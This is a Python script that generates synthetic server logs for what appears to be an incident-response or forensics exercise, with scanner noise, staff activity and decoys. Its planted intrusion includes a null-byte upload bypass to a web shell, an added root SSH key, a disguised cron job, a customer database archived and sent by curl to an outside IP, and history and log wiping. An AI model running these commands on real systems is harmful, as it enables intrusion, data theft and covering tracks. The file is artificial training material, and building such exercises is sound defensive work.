"""Usage: make-logs.py FOLDER. Three days of a server's logs, the same whenever it runs. Its clock is in UTC; the web server's is not."""
import random
import sys
from datetime import datetime, timedelta, timezone
from pathlib import Path

top = Path(sys.argv[1])
dice = random.Random(20240310)
begin = datetime(2024, 3, 8, tzinfo=timezone.utc)
auth, web, audit = [], [], []
zone = timezone(timedelta(hours=5, minutes=30))
people = {"ines": "198.51.100.7", "tomas": "198.51.100.23", "yuki": "203.0.113.40", "deploy": "192.0.2.10"}


def at(day, clock):
    h, m, s = map(int, clock.split(":"))
    return begin + timedelta(days=day, hours=h, minutes=m, seconds=s)


def ssh(time, text, pid=None):
    auth.append((time, f"sshd[{pid or dice.randrange(900, 32000)}]: {text}"))


def get(time, ip, request, status, size, agent="Mozilla/5.0"):
    web.append((time, f'{ip} - - [{time.astimezone(zone):%d/%b/%Y:%H:%M:%S %z}] "{request}" {status} {size} "-" "{agent}"'))


def ran(time, user, command, pid):
    audit.append((time, f"time={time.timestamp():.0f} user={user} pid={pid} cmd={command!r}"))


# Noise: guessing from everywhere, people at work, visitors.
guessers = [f"45.{dice.randrange(256)}.{dice.randrange(256)}.{dice.randrange(1, 255)}" for _ in range(40)] + ["185.220.101.4"] * 3
for _ in range(2600):
    t, ip = begin + timedelta(seconds=dice.randrange(3 * 86400)), dice.choice(guessers)
    user = dice.choice(["root", "admin", "test", "oracle", "git", "tomas", "deploy", "ubuntu"])
    known = "" if user in people or user == "root" else "invalid user "
    ssh(t, f"Failed password for {known}{user} from {ip} port {dice.randrange(1024, 65000)} ssh2")
for day in range(3):
    for name, ip in people.items():
        for _ in range(dice.randrange(2, 6)):
            t, pid = at(day, f"{dice.randrange(6, 19)}:{dice.randrange(60)}:{dice.randrange(60)}"), dice.randrange(900, 32000)
            kind = "publickey" if name != "tomas" else "password"
            if name == "tomas" and dice.random() < 0.5:
                ssh(t - timedelta(seconds=9), f"Failed password for tomas from {ip} port {dice.randrange(1024, 65000)} ssh2", pid)
            ssh(t, f"Accepted {kind} for {name} from {ip} port {dice.randrange(1024, 65000)} ssh2", pid)
            for n in range(dice.randrange(1, 5)):
                ran(t + timedelta(seconds=20 + 31 * n), name, dice.choice(["ls -la", "git pull", "vim notes.txt", "sudo systemctl reload nginx", "crontab -l", "df -h", "curl -s https://status.shop.invalid", "tail -f app.log"]), pid + n)
for _ in range(3000):
    t = begin + timedelta(seconds=dice.randrange(3 * 86400))
    ip = f"{dice.choice([81, 93, 109])}.{dice.randrange(256)}.{dice.randrange(256)}.{dice.randrange(1, 255)}"
    path = dice.choice(["/", "/shop", "/shop/cart", "/login", "/img/logo.png", "/search?q=tea", "/upload.php?file=photo.jpg"])
    get(t, ip, f"GET {path} HTTP/1.1", dice.choice([200, 200, 200, 304, 404]), dice.randrange(200, 20000))
for n in range(180):  # a scanner: loud, and without success
    get(at(1, "03:00:00") + timedelta(seconds=n), "185.220.101.4", f"GET /{dice.choice(['wp-login.php', '.env', 'phpmyadmin/', 'shell.php'])}?{n} HTTP/1.1", 404, 162, "masscan/1.3")

# What happened. The way in is the shop's upload page; ssh comes later, with a key of their own.
evil, second = "91.198.174.77", "146.70.12.9"
get(at(1, "21:14:07"), evil, "GET /upload.php HTTP/1.1", 200, 812)
get(at(1, "21:15:40"), evil, "POST /upload.php HTTP/1.1", 403, 90)
get(at(1, "21:17:02"), evil, "POST /upload.php?file=a.php%00.jpg HTTP/1.1", 200, 31)
get(at(1, "21:17:30"), evil, "GET /uploads/a.php?c=id HTTP/1.1", 200, 54)
get(at(1, "21:18:11"), evil, "GET /uploads/a.php?c=cat+/srv/shop/config.ini HTTP/1.1", 200, 377)
ran(at(1, "21:17:30"), "www-data", "sh -c id", 20100)
ran(at(1, "21:18:11"), "www-data", "sh -c 'cat /srv/shop/config.ini'", 20104)
ssh(at(1, "22:40:19"), f"Failed password for yuki from {second} port 40022 ssh2", 21411)
ssh(at(1, "22:40:31"), f"Accepted password for yuki from {second} port 40022 ssh2", 21411)
for n, command in enumerate(["id", "sudo -l", "sudo find / -perm -4000", "echo ssh-ed25519 AAAAC3Nz backup@host | sudo tee -a /root/.ssh/authorized_keys",
                             "printf '*/10 * * * * root /usr/lib/.sysd/up\\n' | sudo tee /etc/cron.d/sysstat-collect", "sudo tar czf /tmp/.x.tgz /srv/shop/customers.db",
                             "curl -s -T /tmp/.x.tgz http://146.70.12.9:8443/u", "rm /tmp/.x.tgz", "history -c"]):
    ran(at(1, "22:41:00") + timedelta(seconds=47 * n), "yuki", command, 21500 + n)
ssh(at(2, "02:03:44"), f"Accepted publickey for root from {second} port 51515 ssh2", 23001)
ran(at(2, "02:05:00"), "root", "truncate -s 0 /var/log/mail.log", 23010)
# Things that look like it, and are not.
ran(at(0, "11:20:05"), "deploy", "sudo tee /etc/cron.d/shop-backup", 9001)
ssh(at(0, "23:10:00"), "Accepted publickey for ines from 100.64.3.3 port 42000 ssh2", 9100)
ran(at(0, "23:11:00"), "ines", "sudo tar czf /backup/customers.tgz /srv/shop/customers.db", 9102)
get(at(0, "21:14:09"), "81.4.4.4", "POST /upload.php?file=cat.jpg HTTP/1.1", 200, 31)
get(at(2, "08:00:00"), "109.8.8.8", "GET /uploads/a.php?c=id HTTP/1.1", 404, 162)

top.mkdir(exist_ok=True)
auth.sort()
web.sort()
audit.sort()
(top / "auth.log").write_text("".join(f"{t:%b %e %H:%M:%S} shop {line}\n" for t, line in auth))
(top / "access.log").write_text("".join(line + "\n" for _, line in web))
(top / "commands.log").write_text("".join(line + "\n" for _, line in audit))
